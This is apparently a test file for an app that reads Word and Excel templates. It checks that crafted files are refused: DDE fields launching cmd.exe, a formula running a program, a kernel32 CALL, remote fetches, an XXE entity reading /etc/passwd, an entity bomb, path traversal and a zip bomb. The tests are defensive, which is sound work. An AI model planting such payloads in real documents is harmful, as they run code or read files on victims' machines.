import { describe, expect, test } from 'vitest';
import { runJob } from '../../electron/jobs/runJob.ts';
import {
  buildDocument,
  type DocumentSpec,
  documentEntries,
  paragraph,
  run,
  table,
} from '../fixtures/templates/buildDocument.ts';
import { formWorkbookEntries, lackTable, officeForms, registrationSheet } from '../fixtures/templates/officeForms.ts';
import { buildCompoundFile } from '../fixtures/workbooks/buildCompoundFile.ts';
import { buildZip, type ZipEntry } from '../fixtures/workbooks/buildZip.ts';
import { expectRefusal, noise } from '../fixtures/workbooks/expectRefusal.ts';

const mebibyte = 1024 * 1024;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const form = { body: paragraph('姓名：______') } satisfies DocumentSpec;
const withEntry = (...extra: ZipEntry[]): Buffer => buildDocument({ ...form, extra });
const withBody = (body: string): Buffer => buildDocument({ body });
const withRelation = (type: string, target: string, mode = 'External'): Buffer =>
  buildDocument({
    ...form,
    documentRelations: `<Relationship Id="rIdX" Type="${office}/${type}" Target="${target}"${mode === '' ? '' : ` TargetMode="${mode}"`}/>`,
  });
const changed = (name: string, change: Partial<ZipEntry>): Buffer =>
  buildZip(documentEntries(form).map((entry) => (entry.name === name ? { ...entry, ...change } : entry)));
const field = (...codes: string[]): string =>
  paragraph(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('x')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  );
const sheet = { name: '表', cells: { A1: '姓名', B1: '' } };
const book = (...extra: ZipEntry[]): Buffer => buildZip([...formWorkbookEntries([sheet]), ...extra]);
const bookChanged = (name: string, data: (text: string) => string): Buffer =>
  buildZip(
    formWorkbookEntries([sheet]).map((entry) =>
      entry.name === name ? { ...entry, data: data(String(entry.data)) } : entry,
    ),
  );
const withFormula = (formula: string): Buffer =>
  bookChanged('xl/worksheets/sheet1.xml', (xml) =>
    xml.replace('</row>', `<c r="D1"><f>${formula}</f><v>1</v></c></row>`),
  );
const compound = (...names: string[]): Buffer =>
  buildCompoundFile(names.map((name) => ({ name, data: Buffer.alloc(100) }))).file;

/** Every file that must not become a template, with the words its refusal must hold. */
const hostile: readonly (readonly [string, () => Buffer, RegExp])[] = [
  // No .docx and no .xlsx.
  ['an empty file', () => Buffer.alloc(0), /没有内容/],
  ['random bytes', () => noise(50_000), /不能识别/],
  ['more than 20 MB', () => Buffer.alloc(20 * mebibyte + 1), /20 MB/],
  ['an old .doc', () => compound('WordDocument', '1Table'), /\.doc.*另存为/],
  ['an old .xls', () => compound('Workbook'), /\.xls.*另存为/],
  ['a document behind a password', () => compound('EncryptionInfo', 'EncryptedPackage'), /密码/],
  ['an old file that is cut off', () => compound('WordDocument').subarray(0, 600), /损坏|不能识别/],
  ['rich text named .docx', () => Buffer.from('{\\rtf1\\ansi 姓名}'), /RTF.*另存为/],
  ['a web page named .docx', () => Buffer.from('<html><table><tr><td>姓名</td></tr></table></html>'), /网页.*另存为/],
  ['flat XML', () => Buffer.from('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>'), /XML.*另存为/],
  ['plain text', () => Buffer.from('姓名：'), /文本/],
  ['a PDF', () => Buffer.from('%PDF-1.7\n'), /PDF/],
  ['a picture', () => Buffer.concat([Buffer.from('89504e47', 'hex'), noise(100)]), /图片/],
  ['an archive with forms in it', () => buildZip([{ name: '表.docx', data: buildDocument(form) }]), /压缩包/],
  [
    'an .odt',
    () =>
      buildZip([
        { name: 'mimetype', data: 'x', store: true },
        { name: 'content.xml', data: '<a/>' },
      ]),
    /ODF.*另存为/,
  ],
  ['slides', () => withEntry({ name: 'ppt/presentation.xml', data: '<a/>' }), /演示文稿/],
  ['an .xlsb', () => book({ name: 'xl/workbook.bin', data: 'x' }), /xlsb/],
  [
    'a .dotx',
    () =>
      buildDocument({
        ...form,
        mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
      }),
    /dotx.*另存为/,
  ],
  // Macros and programs.
  [
    'a .docm',
    () => buildDocument({ ...form, mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    /宏/,
  ],
  ['a macro part', () => withEntry({ name: 'word/vbaProject.bin', data: noise(1_000) }), /宏/],
  ['a macro part of a workbook', () => book({ name: 'xl/vbaProject.bin', data: noise(1_000) }), /宏/],
  ['a macro sheet', () => book({ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }), /宏/],
  ['a relation to macros', () => withRelation('vbaProject', 'media/image1.png', ''), /宏/],
  ['a button of the ribbon', () => withEntry({ name: 'customUI/customUI.xml', data: '<a/>' }), /宏/],
  ['an OLE object', () => withEntry({ name: 'word/embeddings/oleObject1.bin', data: noise(1_000) }), /嵌有/],
  ['an OLE relation', () => withRelation('oleObject', 'media/image1.png', ''), /嵌有/],
  ['an OLE element', () => withBody(paragraph('<w:r><w:object/></w:r>')), /嵌有/],
  ['an ActiveX control', () => withEntry({ name: 'word/activeX/activeX1.xml', data: '<a/>' }), /嵌有/],
  ['a program', () => withEntry({ name: 'word/media/image2.exe', data: 'MZ' }), /嵌有/],
  ['a web page inside', () => withBody(`${paragraph('姓名')}<w:altChunk r:id="rIdX"/>`), /嵌有/],
  ['a script inside', () => withEntry({ name: 'word/a.html', data: '<script/>' }), /嵌有/],
  // What reaches out.
  ['an attached template', () => withRelation('attachedTemplate', 'http://198.51.100.1/a.dotm'), /另一个模板/],
  ['a picture from the network', () => withRelation('image', 'http://198.51.100.1/a.png'), /链接/],
  ['a picture from a share', () => withRelation('image', 'file:////198.51.100.1/a/b.png'), /链接/],
  ['a link to a file', () => withRelation('hyperlink', 'file:///C:/Windows/System32/calc.exe'), /链接/],
  ['a link that is a script', () => withRelation('hyperlink', 'javascript:alert(1)'), /链接/],
  ['a frame', () => withRelation('frame', 'http://198.51.100.1/'), /链接/],
  ['a field that starts a program', () => withBody(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ')), /域/],
  ['a field cut into letters', () => withBody(field(' D', 'D', 'E', 'AUTO x ')), /域/],
  ['a field put together by others', () => withBody(field(' QUOTE 68 68 69 ')), /域/],
  ['a field that fetches a picture', () => withBody(field(' INCLUDEPICTURE "http://198.51.100.1/a" ')), /域/],
  [
    'a simple field that reads a file',
    () => withBody(`<w:p><w:fldSimple w:instr=" INCLUDETEXT C:\\\\a.txt "/></w:p>`),
    /域/,
  ],
  [
    'a field that never ends',
    () =>
      withBody(
        paragraph(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>LINK Excel.Sheet</w:instrText></w:r>',
        ),
      ),
    /域/,
  ],
  ['a field in a footer', () => buildDocument({ ...form, footer: field(' DATABASE \\c x ') }), /域/],
  ['links between workbooks', () => book({ name: 'xl/externalLinks/externalLink1.xml', data: '<a/>' }), /链接/],
  ['connections to databases', () => book({ name: 'xl/connections.xml', data: '<a/>' }), /链接/],
  ['a formula that asks the network', () => withFormula('WEBSERVICE("http://198.51.100.1/")'), /公式/],
  ['a formula that starts a program', () => withFormula("cmd|'/c calc'!A0"), /公式/],
  ['a formula of another workbook', () => withFormula("'C:\\\\[a.xlsx]b'!A1"), /公式/],
  [
    'a name that calls a program',
    () =>
      bookChanged('xl/workbook.xml', (xml) =>
        xml.replace(
          '</sheets>',
          '</sheets><definedNames><definedName name="a">CALL("kernel32")</definedName></definedNames>',
        ),
      ),
    /公式/,
  ],
  // Broken, forged or too large.
  ['half a document', () => buildDocument(form).subarray(0, 1_200), /损坏/],
  ['a wrong CRC', () => changed('word/document.xml', { statedCrc: 1 }), /损坏/],
  [
    'no document part',
    () => buildZip(documentEntries(form).filter(({ name }) => name !== 'word/document.xml')),
    /损坏/,
  ],
  ['a document part that is no XML', () => changed('word/document.xml', { data: 'x' }), /损坏/],
  ['a document of another vocabulary', () => changed('word/document.xml', { data: '<document/>' }), /损坏/],
  ['a tag that is not closed', () => withBody('<w:p><w:r></w:p>'), /损坏/],
  ['a prefix that nothing declares', () => withBody('<evil:p/>'), /损坏/],
  [
    'bytes that are no UTF-8',
    () =>
      changed('word/document.xml', {
        data: Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')]),
      }),
    /损坏/,
  ],
  [
    'an entity',
    () => changed('word/document.xml', { data: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
    /内部结构/,
  ],
  [
    'entities by the billion',
    () => changed('word/styles.xml', { data: '<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>' }),
    /内部结构/,
  ],
  ['UTF-16', () => changed('word/document.xml', { data: Buffer.from('\uFEFF<a/>', 'utf16le') }), /内部结构/],
  ['a name outside of the archive', () => withEntry({ name: '../../a.xml', data: '<a/>' }), /内部结构|损坏/],
  ['a relation outside of the archive', () => withRelation('header', '../../../etc/passwd.xml', ''), /内部结构/],
  ['a name of the prototype', () => withEntry({ name: 'word/__proto__.xml', data: '<a/>' }), /内部结构/],
  ['one name twice', () => withEntry({ name: 'word/document.xml', data: '<a/>' }), /内部结构/],
  ['parts that overlap', () => withEntry({ name: 'word/b.xml', data: '<a/>', overlapsPrevious: true }), /内部结构/],
  ['an encrypted part', () => changed('word/document.xml', { flags: 0x0801 }), /密码/],
  ['a bomb', () => withEntry({ name: 'word/b.xml', data: Buffer.alloc(60 * mebibyte, 32) }), /过大/],
  [
    'a part of text of 9 MB',
    () => changed('word/document.xml', { data: `<a>${noise(4.6 * mebibyte).toString('hex')}</a>` }),
    /内容过多/,
  ],
  [
    'tables inside of tables',
    () => withBody(`${'<w:tbl><w:tr><w:tc>'.repeat(60)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(60)}`),
    /内容过多/,
  ],
  ['elements without end', () => withBody(`${'<w:sdt>'.repeat(5_000)}${'</w:sdt>'.repeat(5_000)}`), /内容过多/],
  [
    'a million empty elements',
    () =>
      changed('word/document.xml', {
        store: true,
        data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${'<w:p/>'.repeat(1_000_000)}</w:body></w:document>`,
      }),
    /内容过多/,
  ],
  [
    'a cell over a million columns',
    () => withBody('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
    /内容过多/,
  ],
  [
    'a merge over the whole sheet',
    () =>
      bookChanged('xl/worksheets/sheet1.xml', (xml) =>
        xml.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
      ),
    /合并单元格/,
  ],
  [
    'merges that overlap',
    () =>
      bookChanged('xl/worksheets/sheet1.xml', (xml) =>
        xml.replace(
          '</sheetData>',
          '</sheetData><mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:C3"/></mergeCells>',
        ),
      ),
    /合并单元格/,
  ],
  [
    'a cell at the far end of the sheet',
    () =>
      bookChanged('xl/worksheets/sheet1.xml', (xml) =>
        xml.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
      ),
    /内容过多/,
  ],
  [
    'rows out of order',
    () =>
      bookChanged('xl/worksheets/sheet1.xml', (xml) =>
        xml.replace('</sheetData>', '<row r="1"><c r="A1"/></row></sheetData>'),
      ),
    /内部结构/,
  ],
  [
    'hidden sheets only',
    () => bookChanged('xl/workbook.xml', (xml) => xml.replace('sheetId="1"', 'sheetId="1" state="veryHidden"')),
    /可见/,
  ],
  ['a workbook without text', () => buildZip(formWorkbookEntries([{ name: '表', cells: { A1: '' } }])), /没有内容/],
  ['a document without text', () => withBody(paragraph('')), /没有内容/],
  ['a signature', () => withEntry({ name: '_xmlsignatures/sig1.xml', data: '<a/>' }), /签名/],
];

describe('c29: a file that is no safe form is refused in words that help', () => {
  test.each(hostile.map(([name, file, sentence]) => [name, file, sentence] as const))(
    '%s',
    async (_, file, sentence) => {
      await expectRefusal(file(), sentence, 'readTemplate');
    },
  );
});

test('what ordinary forms carry beside their text is let through', async () => {
  const ordinary = [
    withRelation('hyperlink', 'https://www.example.gov.cn/'),
    withBody(
      `${field(' PAGE ')}${field(' MERGEFIELD 姓名 ')}${field(' DATE \\@ "yyyy年M月d日" ')}${paragraph('姓名')}`,
    ),
    withBody(`${paragraph('姓名')}${table([['性别', '']], 2)}`),
    withEntry(
      { name: 'word/fonts/font1.odttf', data: noise(100) },
      { name: 'docProps/app.xml', data: '<a/>' },
      { name: 'customXml/item1.xml', data: '<a/>' },
    ),
    book({ name: 'xl/printerSettings/printerSettings1.bin', data: noise(100) }),
    withFormula('SUM(A1:A3)'),
    ...officeForms.map(({ file }) => file),
  ];
  for (const file of ordinary) expect((await runJob('readTemplate', { file })).model.parts.length).toBeGreaterThan(0);
});

test('a byte that was changed anywhere is refused or makes no other form', { timeout: 120_000 }, async () => {
  for (const { file } of [lackTable, registrationSheet]) {
    for (let at = 7; at < file.length; at += 229) {
      const flipped = Buffer.from(file);
      flipped[at] = (flipped[at] ?? 0) ^ 0x10;
      const outcome = await runJob('readTemplate', { file: flipped }).then(
        (content) => JSON.stringify(content),
        (error: Error) => error.name,
      );
      if (outcome !== 'AppError') expect(outcome).toBe(JSON.stringify(await runJob('readTemplate', { file })));
    }
  }
});
